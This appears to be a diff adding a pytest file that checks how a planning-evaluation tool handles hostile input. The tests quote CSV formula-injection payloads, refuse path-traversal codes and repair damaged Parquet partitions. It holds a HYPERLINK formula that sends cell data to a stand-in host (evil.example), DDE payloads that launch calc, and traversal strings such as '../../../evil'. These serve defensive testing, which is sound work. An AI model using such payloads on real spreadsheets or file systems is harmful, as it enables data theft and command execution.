@@ -1,0 +1,460 @@
+"""Hostile and damaged input (issue 23): cells and codes are data, damage is repaired or named.
+
+Each test is an attack that succeeded before the change: a formula written live into a CSV, a
+``--geography ../../../evil`` that read or wrote outside the data and output folders, a
+truncated or foreign Parquet partition that crashed every report, a calibration factor of -1
+or NaN taken silently, a narrative file that failed inside the kernel or lost its text.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import logging
+import shutil
+from pathlib import Path
+
+import pandas as pd
+import pytest
+import yaml
+from typer.testing import CliRunner
+
+from planeval.cli import app
+from planeval.core.cells import csv_text, neutralise_cell
+from planeval.core.codes import check_code, is_safe_code
+from planeval.core.errors import InputError
+
+GOOD = Path(__file__).resolve().parent / "data" / "good"
+HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"click")'
+DDE = "=cmd|' /C calc'!A0"
+TRAVERSAL = "../../../evil"
+
+
+# --------------------------------------------------------------------------- formula cells
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        (HYPERLINK, "'" + HYPERLINK),
+        (DDE, "'" + DDE),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-", "'-"),
+        # genuine numbers stay numbers, as numbers and as text
+        ("-20", "-20"),
+        ("+1.5", "+1.5"),
+        ("-3e-2", "-3e-2"),
+        ("-20%", "-20%"),
+        (-20.0, -20.0),
+        (7, 7),
+        (None, None),
+        ("孕产妇死亡率", "孕产妇死亡率"),
+        ("a=b", "a=b"),
+    ],
+)
+def test_neutralise_cell(value, expected):
+    assert neutralise_cell(value) == expected
+
+
+def _cells(text: str) -> list[str]:
+    return [c for row in csv.reader(io.StringIO(text)) for c in row]
+
+
+def _assert_no_live_formula(text: str) -> None:
+    """No cell of the CSV starts a formula unless it is a plain number (``-20``)."""
+    for cell in _cells(text):
+        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+            float(cell.rstrip("%"))  # raises for anything but a number
+
+
+def test_csv_text_neutralises_text_not_numbers():
+    frame = pd.DataFrame({"name": [HYPERLINK, "ok"], "value": [-20.5, 3.0], "code": ["-5", DDE]})
+    text = csv_text(frame)
+    assert _cells(text) == ["name", "value", "code"] + ["'" + HYPERLINK, "-20.5", "-5"] + [
+        "ok",
+        "3.0",
+        "'" + DDE,
+    ]
+    _assert_no_live_formula(text)
+
+
+def _hostile_plan(tmp_path: Path) -> Path:
+    """The demo data folder with formula payloads in the plan's text fields and an id."""
+    data = tmp_path / "data"
+    for part in ("plans", "observations"):
+        shutil.copytree(GOOD / part, data / part)
+    shutil.copy(GOOD / "indicators.yaml", data / "indicators.yaml")
+    path = data / "plans" / "demo_2021_2025.yaml"
+    plan = yaml.safe_load(path.read_text(encoding="utf-8"))
+    plan["targets"][0]["name_zh"] = HYPERLINK
+    plan["targets"][0]["source_text"] = DDE
+    domain = plan["targets"][1]["domain"]
+    items = sum(t["domain"] == domain for t in plan["targets"])
+    extra = {**plan["targets"][1], "indicator_id": DDE, "item": f"T{items + 1}"}
+    extra["definition"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    plan["targets"].append(extra)
+    path.write_text(yaml.safe_dump(plan, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    return data
+
+
+def test_catalogue_csv_writes_formulas_as_text(tmp_path):
+    """``planeval catalogue --format csv`` (stdout and --out file): payloads quoted, the
+    negative and decimal figures of other plans untouched."""
+    data = _hostile_plan(tmp_path)
+    result = CliRunner().invoke(app, ["catalogue", "--format", "csv", "--data-dir", str(data)])
+    assert result.exit_code == 0, result.output
+    cells = _cells(result.stdout)
+    assert "'" + HYPERLINK in cells and "'" + DDE in cells
+    assert HYPERLINK not in cells and DDE not in cells
+    _assert_no_live_formula(result.stdout)
+    out = tmp_path / "catalogue.csv"
+    result = CliRunner().invoke(
+        app, ["catalogue", "--format", "csv", "--data-dir", str(data), "--out", str(out)]
+    )
+    assert result.exit_code == 0, result.output
+    _assert_no_live_formula(out.read_text(encoding="utf-8-sig"))
+
+
+def test_shipped_catalogue_csv_keeps_its_numbers():
+    """The real plans: a decrease of 20 % is still written -20, not '-20."""
+    from planeval.plans.catalogue import load_all_plans
+    from planeval.reporting.catalogue_page import catalogue_csv
+
+    text = catalogue_csv(load_all_plans("data"))
+    assert "-20" in _cells(text)
+    assert not any(c.startswith("'") for c in _cells(text))
+
+
+def test_assess_csv_writes_formulas_as_text(tmp_path):
+    data = _hostile_plan(tmp_path)
+    result = CliRunner().invoke(
+        app,
+        ["assess", "--plan", "demo", "--geography", "demo", "--year", "2023"]
+        + ["--data-dir", str(data), "--format", "csv"],
+    )
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert "'" + DDE in [r["indicator_id"] for r in rows]
+    _assert_no_live_formula(result.stdout)
+
+
+# --------------------------------------------------------------------------- codes and paths
+@pytest.mark.parametrize(
+    "code", ["china", "baijiantan", "geo_a", "650205", "strelsau-east", "x", "a" * 64]
+)
+def test_safe_codes(code):
+    assert is_safe_code(code) and check_code(code) == code
+
+
+@pytest.mark.parametrize(
+    "code",
+    [TRAVERSAL, "..", ".", "", "a/b", "a\\b", "/etc", "China", "a b", "a.b", "白碱滩", "a" * 65, 7],
+)
+def test_unsafe_codes_are_refused_in_both_languages(code):
+    with pytest.raises(InputError) as err:
+        check_code(code, "geography", "--geography")
+    problem = err.value.problems[0]
+    assert problem.file == "--geography" and "not allowed" in problem.message_en
+    assert "不允许" in problem.message_zh and problem.fix and problem.fix_zh
+
+
+@pytest.fixture(params=[False, True], ids=["no-geographies-file", "geographies-file"])
+def world(tmp_path, request):
+    """``tmp/a/b/data`` (demo data) and ``tmp/a/evil``, the folder ``observations/../../../evil``
+    reaches, holding a copy of demo's yearly files to be read; ``tmp/a/b/out`` for outputs.
+    With ``geographies.yaml`` listing demo, or without one."""
+    root = tmp_path / "a" / "b"
+    data = root / "data"
+    for part in ("plans", "observations"):
+        shutil.copytree(GOOD / part, data / part)
+    shutil.copy(GOOD / "indicators.yaml", data / "indicators.yaml")
+    shutil.copytree(GOOD / "observations" / "demo", tmp_path / "a" / "evil")
+    if request.param:
+        (data / "geographies.yaml").write_text(
+            "geographies:\n  - {code: demo, zh: 示范区, en: Demo, level: district, parent: null}\n",
+            encoding="utf-8",
+        )
+    (root / "out").mkdir()
+    return tmp_path, data, root / "out"
+
+
+def _tree(top: Path) -> set[str]:
+    return {str(p.relative_to(top)) for p in top.rglob("*")}
+
+
+def _refused(result, before: set[str], top: Path) -> None:
+    """The command failed with the code message, no traceback, and wrote nothing anywhere
+    (no store partition, report or failure record inside or outside the folders)."""
+    assert result.exit_code != 0
+    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
+    assert "not allowed" in result.output and "不允许" in result.output
+    assert _tree(top) == before
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["report", "--plan", "demo", "--stage", "midterm", "--year", "2023"],
+        ["assess", "--plan", "demo", "--year", "2023"],
+        ["validate"],
+        ["status", "--year", "2023", "--out", "OUT/status.html"],
+        ["template", "--plan", "demo", "--year", "2024", "--out", "OUT/2024.xlsx"],
+    ],
+    ids=lambda c: c[0],
+)
+def test_traversal_geography_is_refused_by_every_command(world, command):
+    top, data, out = world
+    command = [c.replace("OUT", str(out)) for c in command]
+    if command[0] == "report":
+        command += ["--out", str(out)]
+    before = _tree(top)
+    result = CliRunner().invoke(app, [*command, "--geography", TRAVERSAL, "--data-dir", str(data)])
+    _refused(result, before, top)
+
+
+def test_validate_of_a_file_with_a_traversal_geography(world):
+    top, data, _ = world
+    before = _tree(top)
+    result = CliRunner().invoke(
+        app,
+        ["validate", str(data / "observations" / "demo" / "2021.csv")]
+        + ["--geography", TRAVERSAL, "--data-dir", str(data)],
+    )
+    _refused(result, before, top)
+
+
+def test_store_partition_never_leaves_the_store(world):
+    from planeval.store.database import load_geography, partition_path
+
+    top, data, _ = world
+    before = _tree(top)
+    with pytest.raises(InputError, match="not allowed"):
+        load_geography(data, TRAVERSAL)
+    with pytest.raises(InputError, match="not allowed"):
+        partition_path(data / "processed", "observations", TRAVERSAL)
+    assert _tree(top) == before
+
+
+def test_failure_record_never_leaves_the_output_folder(world):
+    """build_report records input errors under OUT/failed; with a traversal code it refuses
+    before any name is built (the record would have been OUT/failed/../../../evil_...)."""
+    from planeval.publish.failures import failed_record_paths
+    from planeval.publish.runner import build_report
+
+    top, data, out = world
+    before = _tree(top)
+    with pytest.raises(InputError, match="not allowed"):
+        build_report("demo", "annual", 2023, TRAVERSAL, data, out=out, record_input_errors=True)
+    with pytest.raises(InputError, match="not allowed"):
+        build_report(TRAVERSAL, "annual", 2023, "demo", data, out=out, record_input_errors=True)
+    assert _tree(top) == before
+    with pytest.raises(ValueError):
+        failed_record_paths(out, "../../evil.html")
+
+
+def test_narrative_path_never_leaves_the_narrative_folder(tmp_path):
+    from planeval.reporting.narrative import narrative_path
+
+    assert narrative_path(tmp_path, "demo", "women", "final", 2024) == (
+        tmp_path / "narrative" / "demo" / "women_final_2024.yaml"
+    )
+    for geography, plan in ((TRAVERSAL, "women"), ("demo", "../../../evil")):
+        with pytest.raises(InputError, match="not allowed"):
+            narrative_path(tmp_path, geography, plan, "final", 2024)
+
+
+def test_plan_named_as_a_path_is_refused(world):
+    """A plan file whose ``plan:`` or alias would make a report name climb out of the output
+    folder (``geo_../../../evil_annual_2023.html``) fails the catalogue check; a run list
+    naming it builds nothing."""
+    from planeval.plans.catalogue import load_all_plans
+    from planeval.publish.runlist import load_runlist
+
+    top, data, out = world
+    path = data / "plans" / "demo_2021_2025.yaml"
+    text = path.read_text(encoding="utf-8").replace('plan: "demo"', 'plan: "../../../evil"')
+    path.write_text(text.replace("geography:", "aliases: [Demo Plan]\ngeography:"), "utf-8")
+    with pytest.raises(InputError) as err:
+        load_all_plans(data)
+    columns = sorted(p.column for p in err.value.problems if "not allowed" in p.message_en)
+    assert columns == ["aliases", "plan"]
+    runlist = top / "runs.yaml"
+    runlist.write_text(
+        yaml.safe_dump(
+            {
+                "data_dir": str(data),
+                "out": str(out),
+                "runs": [
+                    {
+                        "geographies": ["demo"],
+                        "plans": ["../../../evil"],
+                        "stages": ["annual"],
+                        "years": [2023],
+                    }
+                ],
+            }
+        ),
+        encoding="utf-8",
+    )
+    with pytest.raises(InputError):
+        load_runlist(runlist)
+
+
+def test_run_list_with_a_traversal_geography_builds_nothing(world):
+    from planeval.publish.batch import run_batch
+
+    top, data, out = world
+    runlist = top / "runs.yaml"
+    runlist.write_text(
+        yaml.safe_dump(
+            {
+                "data_dir": str(data),
+                "out": str(out),
+                "runs": [
+                    {
+                        "geographies": [TRAVERSAL],
+                        "plans": ["demo"],
+                        "stages": ["annual"],
+                        "years": [2023],
+                    }
+                ],
+            }
+        ),
+        encoding="utf-8",
+    )
+    before = _tree(top)
+    with pytest.raises(InputError):
+        run_batch(runlist, workers=1)
+    assert _tree(top) == before
+
+
+def test_misnamed_observations_folder_is_named_not_read(tmp_path):
+    """A folder ``observations/Demo Copy`` is not a geography code: the store build names it
+    (no silent skip) and reads none of its files."""
+    from planeval.intake.observations import list_geographies
+    from planeval.store.database import build_store
+
+    data = tmp_path / "data"
+    for part in ("plans", "observations"):
+        shutil.copytree(GOOD / part, data / part)
+    shutil.copy(GOOD / "indicators.yaml", data / "indicators.yaml")
+    shutil.copytree(data / "observations" / "demo", data / "observations" / "Demo Copy")
+    assert list_geographies(data) == ["demo"]
+    with pytest.raises(InputError) as err:
+        build_store(data)
+    assert [p.file for p in err.value.problems] == [str(data / "observations" / "Demo Copy")]
+
+
+# --------------------------------------------------------------------------- store damage
+@pytest.fixture()
+def stored(tmp_path):
+    """Demo data with a built store, and a second geography ``other`` (demo's CSV files with
+    every value of 2021 times 0.9) built too."""
+    from planeval.store.database import build_store
+
+    data = tmp_path / "data"
+    for part in ("plans", "observations"):
+        shutil.copytree(GOOD / part, data / part)
+    shutil.copy(GOOD / "indicators.yaml", data / "indicators.yaml")
+    other = data / "observations" / "other"
+    shutil.copytree(data / "observations" / "demo", other)
+    (other / "2023.xlsx").unlink()  # its 说明 sheet names demo
+    lines = (other / "2021.csv").read_text(encoding="utf-8").splitlines()
+    head = lines[0].split(",")
+    col = head.index("value")
+    rows = [line.split(",") for line in lines[1:]]
+    for r in rows:
+        r[col] = str(round(float(r[col]) * 0.9, 3))
+    (other / "2021.csv").write_text(
+        "\n".join([lines[0], *(",".join(r) for r in rows)]) + "\n", encoding="utf-8"
+    )
+    build_store(data)
+    return data
+
+
+def _partition(data: Path, geography: str, table: str = "observations") -> Path:
+    return data / "processed" / table / f"{geography}.parquet"
+
+
+def _truncate(path: Path) -> None:
+    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
+
+
+def _empty(path: Path) -> None:
+    path.write_bytes(b"")
+
+
+def _unmarked(path: Path) -> None:
+    """A valid Parquet file written by something else (no planeval record)."""
+    pd.read_parquet(path).to_parquet(path, index=False)
+
+
+@pytest.mark.parametrize(
+    ("damage", "words"),
+    [
+        (_truncate, "is damaged"),
+        (_empty, "is damaged"),
+        (_unmarked, "not written by planeval"),
+    ],
+    ids=["truncated", "empty", "unmarked"],
+)
+@pytest.mark.parametrize("table", ["observations", "files"])
+def test_damaged_partition_is_rebuilt_with_a_line(stored, damage, words, table, caplog):
+    from planeval.intake.observations import load_observations
+    from planeval.plans.catalogue import known_units
+    from planeval.store.database import load_geography, partition_state
+
+    damage(_partition(stored, "demo", table))
+    with caplog.at_level(logging.WARNING, logger="planeval.store"):
+        got = load_geography(stored, "demo")
+    direct = load_observations(stored, "demo", known_units(stored))
+    pd.testing.assert_frame_equal(got, direct)
+    lines = [r.getMessage() for r in caplog.records]
+    assert len(lines) == 1 and "'demo' rebuilt from the yearly files" in lines[0]
+    assert words in lines[0] and "重建" in lines[0]
+    from planeval.store.database import fingerprint
+
+    stamp = fingerprint(stored, "demo", known_units(stored))
+    assert partition_state(stored / "processed", "demo", stamp) == ("current", "")
+
+
+def test_foreign_partition_is_detected_and_rebuilt(stored, caplog):
+    """other's (valid) Parquet files copied over demo's: demo's own values come back, not
+    other's (2021 times 0.9, no 2023)."""
+    from planeval.intake.observations import load_observations
+    from planeval.plans.catalogue import known_units
+    from planeval.store.database import load_geography
+
+    for table in ("observations", "files"):
+        shutil.copy(_partition(stored, "other", table), _partition(stored, "demo", table))
+    with caplog.at_level(logging.WARNING, logger="planeval.store"):
+        got = load_geography(stored, "demo")
+    direct = load_observations(stored, "demo", known_units(stored))
+    pd.testing.assert_frame_equal(got, direct)
+    assert "holds the values of 'other', not 'demo'" in caplog.records[0].getMessage()
+
+
+def test_sql_and_read_store_repair_a_damaged_partition(stored, caplog):
+    from planeval.store import query, read_store
+
+    _truncate(_partition(stored, "demo"))
+    with caplog.at_level(logging.WARNING, logger="planeval.store"):
+        n = query("SELECT count(*) AS n FROM observations WHERE geography = 'demo'", stored)
+    assert n["n"].tolist() == [18]  # 3 + 6 + 1 + 8 (see test_store)
+    _empty(_partition(stored, "other", "files"))
+    assert set(read_store(stored, table="files")["geography"]) == {"demo", "other"}
+    assert len(caplog.records) == 2
+
+
+def test_assess_command_with_a_damaged_partition(stored):
+    """No ArrowInvalid traceback: the command works and says what it rebuilt."""
+    _truncate(_partition(stored, "demo"))
+    result = CliRunner().invoke(
+        app,
+        ["assess", "--plan", "demo", "--geography", "demo", "--year", "2023"]
+        + ["--data-dir", str(stored)],
+    )
+    assert result.exit_code == 0, result.output
+    assert result.stdout.startswith("indicator_id,")
